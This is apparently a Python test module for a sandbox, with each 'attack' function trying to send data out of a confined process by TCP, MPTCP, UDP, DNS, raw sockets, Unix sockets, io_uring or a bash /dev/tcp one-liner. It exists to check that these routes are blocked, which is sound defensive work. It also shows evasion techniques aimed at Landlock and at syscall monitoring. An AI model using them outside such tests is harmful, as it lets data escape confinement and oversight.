"""Attacks that call home: every kind of socket."""

from attacks.declared import attack
from attacks.kit import T, attempt, claim, ctypes, socket, struct, subprocess, syscall

TCP = ("file system", "system calls")
ANY = ("system calls",)


@attack("import", *TCP)
def connect_by_tcp():
    """a server, by TCP"""
    socket.create_connection(("127.0.0.1", T.tcp), 2).sendall(b"loot")


@attack("fit", *TCP)
def connect_by_tcp_6():
    """a server, by TCP over IPv6"""
    socket.create_connection(("::1", T.tcp6), 2).sendall(b"loot")


@attack("build", *TCP)
def connect_by_fast_open():
    """a server, by TCP without connect (MSG_FASTOPEN)"""
    caller = socket.socket()
    caller.sendto(b"loot", 0x20000000, ("127.0.0.1", T.tcp))


@attack("predict", *ANY)
def connect_by_multipath_tcp():
    """a server, by MPTCP, which Landlock doesn't know"""
    caller = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
    caller.settimeout(2)
    caller.connect(("127.0.0.1", T.tcp))


@attack("fit", *TCP)
def connect_by_a_program():
    """a server, by another program"""
    code = f"exec 3<>/dev/tcp/127.0.0.1/{T.tcp} && echo loot >&3"
    done = subprocess.run(["/bin/bash", "-c", code], capture_output=True, text=True)
    raise PermissionError(13, done.stderr)


@attack("import", *ANY)
def send_by_udp():
    """a server, by UDP"""
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"loot", ("127.0.0.1", T.udp))


@attack("predict", *ANY)
def ask_for_a_name():
    """a server, by DNS: the name that is asked for is the message"""
    question = struct.pack(">6H", 1, 256, 1, 0, 0, 0) + b"\x04loot\x07example\x00" + struct.pack(">2H", 1, 1)
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, ("127.0.0.1", T.udp))


@attack("build", *ANY)
def open_a_raw_socket():
    """packets of its own making"""
    for family, kind, protocol in (
        (socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET, socket.SOCK_RAW, 0),
        (socket.AF_INET, socket.SOCK_DGRAM, 1),
        (16, socket.SOCK_RAW, 0), (40, socket.SOCK_STREAM, 0), (38, 5, 0),
    ):  # fmt: skip
        if attempt(socket.socket, family, kind, protocol) is not None:
            claim(f"has a socket of family {family}, kind {kind}")


@attack("fit", "file system", "system calls")
def connect_to_an_abstract_socket():
    """a process of this machine, by an abstract socket"""
    caller = socket.socket(socket.AF_UNIX)
    caller.connect("\0" + T.abstract)


@attack("save", "other user", promised="root")
def connect_to_a_socket_file():
    """a process of this machine, by a socket in a folder"""
    caller = socket.socket(socket.AF_UNIX)
    caller.connect(T.path)
    caller.sendall(b"loot")


@attack("import", *TCP)
def connect_far_away():
    """a server far away, such as the one that has the machine's credentials in a cloud"""
    caller = socket.socket()
    caller.settimeout(1)
    try:
        caller.connect(("192.0.2.1", 80))  # an address that nobody has
        claim("is connected")
    except OSError as error:
        if isinstance(error, (TimeoutError, ConnectionError)) or error.errno in (
            101,
            113,
        ):  # no route: but it was let out
            claim("may connect to anybody")
        raise


@attack("predict", *TCP)
def wait_for_a_call():
    """someone who calls it: a listening socket"""
    ear = socket.socket()
    ear.bind(("127.0.0.1", 0))
    ear.listen()
    claim("listens")


@attack("import", *ANY)
def connect_by_io_uring():
    """a server, by io_uring, which passes by what watches system calls"""
    syscall("io_uring_setup", 4, ctypes.create_string_buffer(120))
    claim("has an io_uring")


@attack("load", *ANY)
def hold_a_line_to_itself():
    """a server on this machine for its own later processes"""
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).bind(("127.0.0.1", 0))
    claim("has a place on the network")
